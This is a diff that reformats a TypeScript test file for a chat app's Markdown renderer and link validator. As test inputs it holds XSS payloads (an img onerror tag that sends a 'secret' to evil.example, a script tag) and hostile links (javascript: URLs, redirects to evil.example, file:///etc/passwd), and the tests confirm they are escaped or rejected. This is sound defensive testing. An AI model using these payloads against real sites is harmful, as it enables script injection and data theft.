@@ -7,7 +7,9 @@ const render = (text: string, isStreaming = false) => renderToStaticMarkup(<Mark
 
 describe("an answer", () => {
   it("shows HTML as text and runs none of it", () => {
-    const html = render('Before <img src="https://evil.example/?q=secret" onerror="alert(1)"> after\n\n<script>alert(1)</script>\n\n<b>bold</b>');
+    const html = render(
+      'Before <img src="https://evil.example/?q=secret" onerror="alert(1)"> after\n\n<script>alert(1)</script>\n\n<b>bold</b>',
+    );
     expect(html).not.toMatch(/<(?:img|script|b)[\s>]/);
     expect(html).toContain("&lt;script&gt;");
   });
@@ -39,13 +41,23 @@ describe("an answer", () => {
 });
 
 it("leads to our own pages, the web and mail only", () => {
-  expect(["/chat/conv_1", "/modules", "/settings/models#keys", "https://a.example/x", "mailto:ann@example.org"].map((href) => readLink(href).kind)).toEqual([
-    "page",
-    "page",
-    "page",
-    "web",
-    "web",
-  ]);
-  for (const href of [undefined, "", "/api/runs", "//evil.example", "/\\evil.example", "/chat\\evil", "/chatter", "javascript:alert(1)", "JaVaScRiPt:x", "file:///etc/passwd", "https://"])
+  expect(
+    ["/chat/conv_1", "/modules", "/settings/models#keys", "https://a.example/x", "mailto:ann@example.org"].map(
+      (href) => readLink(href).kind,
+    ),
+  ).toEqual(["page", "page", "page", "web", "web"]);
+  for (const href of [
+    undefined,
+    "",
+    "/api/runs",
+    "//evil.example",
+    "/\\evil.example",
+    "/chat\\evil",
+    "/chatter",
+    "javascript:alert(1)",
+    "JaVaScRiPt:x",
+    "file:///etc/passwd",
+    "https://",
+  ])
     expect(readLink(href)).toEqual({ kind: "none" });
 });
